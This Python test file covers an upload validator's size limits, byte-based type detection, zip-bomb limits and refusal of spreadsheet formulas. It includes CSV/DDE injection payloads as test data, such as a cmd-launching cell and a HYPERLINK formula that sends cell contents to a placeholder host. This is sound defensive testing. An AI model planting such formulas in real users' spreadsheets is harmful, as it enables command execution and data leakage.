"""Checks on uploaded files (issue #12): size cap, type by bytes, formulas, evidence types.

Numbers with a sign ("-1.5", "+3e2") are values; cells a spreadsheet would run
("=1+1", "@SUM(A1)", "+A1", "-cmd|' /C calc'!A0") are refused, in CSV text and in real
XLSX workbooks written by openpyxl. A refused file names the file, and a formula
its row and column.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ecoplan.core.errors import InputFileError
from ecoplan.ingest.uploads import (
    MAX_EVIDENCE,
    MAX_UNZIPPED,
    MAX_VALUES_FILE,
    _formula_text,
    check_values_upload,
    evidence_type,
)

PLAN = "jiangmen-13th-eco"
GOOD = f"plan,indicator,region,year,value\n{PLAN},air-good-days,440700,2017,-1.5\n".encode()
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook(rows: list[list[object]], title: str = "Sheet") -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = title
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def zipped(members: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, body in members.items():
            z.writestr(name, body)
    return buf.getvalue()


def refused(name: str, data: bytes) -> InputFileError:
    with pytest.raises(InputFileError) as info:
        check_values_upload(name, data)
    assert info.value.file == name
    assert name in str(info.value)
    return info.value


# -- what a formula is ---------------------------------------------------------------------
@pytest.mark.parametrize(
    "cell", ["-1.5", "+3e2", "-.5", "+1.", "1e-3", "-0", "  -2.25  ", "", "abc", "江门", "5%", "a=b"]
)
def test_values_are_not_formulas(cell: str) -> None:
    assert _formula_text(cell) is False


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "@SUM(A1)",
        "+A1",
        "-cmd|' /C calc'!A0",
        " =1+1",
        "\t=1+1",
        "+1+1",
        "-1e2+A1",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example/?a="&A1,"go")',
        "-1\n=cmd",
    ],
)
def test_cells_a_spreadsheet_would_run_are_formulas(cell: str) -> None:
    assert _formula_text(cell) is True


signs = st.sampled_from(["", "+", "-"])
numbers = st.one_of(
    st.integers(0, 10**12).map(str),
    st.floats(0, 1e12, allow_nan=False, allow_infinity=False).map(repr),
    st.floats(0, 1e300, allow_nan=False, allow_infinity=False).map(lambda x: f"{x:e}"),
    st.tuples(st.integers(0, 999), st.integers(0, 999)).map(lambda t: f"{t[0]}.{t[1]}"),
    st.integers(0, 999).map(lambda n: f".{n}"),
)


@given(sign=signs, number=numbers, pad=st.sampled_from(["", " ", "\t"]))
@settings(max_examples=200)
def test_any_signed_number_passes(sign: str, number: str, pad: str) -> None:
    assert float(sign + number) == float(sign + number)  # a number Python reads, too
    assert _formula_text(f"{pad}{sign}{number}{pad}") is False


@given(
    lead=st.sampled_from(["=", "@"]),
    rest=st.text(max_size=30),
    pad=st.sampled_from(["", " ", "\t", "\r"]),
)
@settings(max_examples=200)
def test_equals_and_at_always_refused(lead: str, rest: str, pad: str) -> None:
    assert _formula_text(pad + lead + rest) is True


@given(
    sign=st.sampled_from(["+", "-"]),
    first=st.characters(exclude_categories=["Nd", "Zs", "Cc", "Cs"], exclude_characters=".\x85"),
    rest=st.text(max_size=30),
)
@settings(max_examples=200)
def test_a_sign_before_anything_but_a_number_is_refused(sign: str, first: str, rest: str) -> None:
    assert _formula_text(sign + first + rest) is True


# -- CSV uploads ---------------------------------------------------------------------------
def test_a_clean_csv_passes_with_negative_and_exponent_values() -> None:
    body = GOOD + f"{PLAN},air-pm25,440700,2018,+3e2\n".encode()
    assert check_values_upload("v.csv", body) == ".csv"
    assert check_values_upload("v.csv", b"\xef\xbb\xbf" + GOOD) == ".csv"  # a BOM is fine


def test_csv_injection_names_row_and_column_of_every_bad_cell() -> None:
    body = (
        "plan,indicator,region,year,value,note\n"
        f"{PLAN},air-good-days,440700,2017,90,=1+1\n"
        f"{PLAN},air-pm25,440700,2017,@SUM(A1),ok\n"
        f"{PLAN},air-pm25,440700,2018,30,\"-cmd|' /C calc'!A0\"\n"
    ).encode()
    err = refused("upload.csv", body)
    where = [(p.row, p.field, p.text) for p in err.problems]
    assert where == [
        (2, "column 6", "=1+1"),
        (3, "column 5", "@SUM(A1)"),
        (4, "column 6", "-cmd|' /C calc'!A0"),
    ]


safe_cells = st.one_of(
    st.tuples(signs, numbers).map("".join),
    st.sampled_from(["江门市", "air-pm25", "440700", "", "μg/m³", "≤35", "5%", "note: a=b"]),
)
bad_cells = st.one_of(
    st.sampled_from(["=1+1", "@SUM(A1)", "+A1", "-cmd|' /C calc'!A0", ' =HYPERLINK("x")', "-2+3+A1"]),
    st.tuples(st.sampled_from("=@"), st.text(st.characters(exclude_characters="\x00"), max_size=10)).map(
        "".join
    ),
)
grids = st.lists(
    st.lists(
        st.one_of(safe_cells.map(lambda c: (c, False)), bad_cells.map(lambda c: (c, True))),
        min_size=1,
        max_size=5,
    ),
    min_size=1,
    max_size=6,
)


@given(grid=grids)
@settings(max_examples=100)
def test_every_formula_cell_of_a_csv_is_named_and_no_other(grid: list[list[tuple[str, bool]]]) -> None:
    buf = io.StringIO()
    csv.writer(buf).writerows([[c for c, _ in row] for row in grid])
    want = {(i, f"column {j}") for i, row in enumerate(grid, 1) for j, (_, bad) in enumerate(row, 1) if bad}
    data = buf.getvalue().encode()
    if not want:
        assert check_values_upload("g.csv", data) == ".csv"
        return
    err = refused("g.csv", data)
    assert {(p.row, p.field) for p in err.problems} == want


def test_type_is_decided_by_bytes_not_by_name() -> None:
    assert check_values_upload("v.xlsx", GOOD) == ".csv"
    assert check_values_upload("v.csv", workbook([["plan", "value"], [PLAN, -1.5]])) == ".xlsx"


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"plan,value\n\xff\xfe\xff,1\n", "GB 18030"),  # neither UTF-8 nor GB 18030
        (b"plan,value\x00\n", "binary"),
        (zipped({"readme.txt": "hello"}), "not an Excel workbook"),
    ],
)
def test_not_csv_nor_xlsx_is_refused(data: bytes, why: str) -> None:
    err = refused("v.csv", data)
    assert why in str(err)


def test_a_csv_saved_by_a_chinese_excel_is_accepted_as_the_cli_accepts_it() -> None:
    assert (
        check_values_upload("v.csv", f"plan,指标,region\n{PLAN},优良天数比率,440700\n".encode("gb18030"))
        == ".csv"
    )
    err = refused("v.csv", "plan,value\n江门,=1+1\n".encode("gb18030"))  # and is checked like any CSV
    assert "formula" in str(err)


def test_size_cap() -> None:
    line = b"a,b\n"
    fits = line * (MAX_VALUES_FILE // len(line))
    assert len(fits) <= MAX_VALUES_FILE
    assert check_values_upload("big.csv", fits) == ".csv"
    err = refused("big.csv", fits + b"x" * (MAX_VALUES_FILE - len(fits) + 1))
    assert str(MAX_VALUES_FILE) in str(err)


def test_a_huge_cell_is_refused_not_crashed() -> None:
    # beyond the csv module's field limit: a refused file, never a crash of the reader
    refused("v.csv", b'"' + b"a" * 200_000 + b'"\n')


# -- XLSX uploads --------------------------------------------------------------------------
def test_a_workbook_of_values_passes() -> None:
    data = workbook(
        [["plan", "indicator", "region", "year", "value"], [PLAN, "air-pm25", "440700", 2017, -1.5]]
    )
    assert check_values_upload("v.xlsx", data) == ".xlsx"


def test_a_formula_in_a_workbook_is_named_by_sheet_row_and_column() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "数据"
    ws.append(["plan", "indicator", "region", "year", "value"])
    ws.append([PLAN, "air-pm25", "440700", 2017, 30])
    ws.append([PLAN, "air-pm25", "440700", 2018, "=E2*0.9"])
    other = wb.create_sheet("notes")
    other["C4"] = "=SUM(1,2)"
    text_cell = other["A1"]
    text_cell.value = "=cmd"
    text_cell.data_type = "s"  # a text cell that reads like a formula
    buf = io.BytesIO()
    wb.save(buf)
    err = refused("v.xlsx", buf.getvalue())
    where = sorted((p.sheet or "", p.row or 0, p.field or "") for p in err.problems)
    assert where == [("notes", 1, "A"), ("notes", 4, "C"), ("数据", 3, "E")]


def test_a_workbook_that_unpacks_past_the_limit_is_refused() -> None:
    # 5 MB on the wire may be gigabytes unpacked: the parts' sizes are capped, too
    good = zipfile.ZipFile(io.BytesIO(workbook([["a", 1]])))
    parts = {n: good.read(n).decode() for n in good.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace("<sheetData>", "<sheetData>" + " " * (MAX_UNZIPPED + 1))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, body in parts.items():
            z.writestr(n, body)
    data = buf.getvalue()
    assert len(data) < MAX_VALUES_FILE
    err = refused("bomb.xlsx", data)
    assert str(MAX_UNZIPPED) in str(err)


def test_a_damaged_workbook_is_refused_not_crashed() -> None:
    refused("v.xlsx", zipped({"xl/workbook.xml": "<not a workbook"}))
    # a readable workbook whose sheet is damaged
    good = zipfile.ZipFile(io.BytesIO(workbook([["a", 1]])))
    parts = {n: good.read(n).decode() for n in good.namelist()}
    parts["xl/worksheets/sheet1.xml"] = "<worksheet><sheetData><row r='1'><c r="
    refused("v.xlsx", zipped(parts))
    # ... and one that opens and breaks while its rows are read
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts["xl/worksheets/sheet1.xml"] = (
        f'<worksheet xmlns="{ns}"><dimension ref="A1:B1"/><sheetData><row r="1"><c r='
    )
    refused("v.xlsx", zipped(parts))


# -- evidence ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("data", "media"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "application/pdf"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "image/jpeg"),
        ("现场检查记录：已完成整改。\n".encode(), "text/plain"),
        (zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}), DOCX),
        (workbook([["a", 1]]), XLSX),
    ],
)
def test_evidence_types_by_signature(data: bytes, media: str) -> None:
    # the name says nothing: the bytes decide
    assert evidence_type("evidence.bin", data) == media


@pytest.mark.parametrize(
    "data",
    [
        b"MZ\x90\x00\x03\x00\x00\x00",  # a Windows program
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00",
        zipped({"payload.bin": "x"}),  # a ZIP that is no Office document
        b"\x7fELF\x02\x01\x01\x00",
        b"\xff\xfe\x00\x00",
    ],
)
def test_other_evidence_is_refused(data: bytes) -> None:
    with pytest.raises(InputFileError) as info:
        evidence_type("photo.pdf", data)
    assert "photo.pdf" in str(info.value)


def test_evidence_empty_or_too_large() -> None:
    with pytest.raises(InputFileError):
        evidence_type("e.txt", b"")
    assert evidence_type("e.txt", b"a" * MAX_EVIDENCE) == "text/plain"
    with pytest.raises(InputFileError) as info:
        evidence_type("e.txt", b"a" * (MAX_EVIDENCE + 1))
    assert str(MAX_EVIDENCE) in str(info.value)
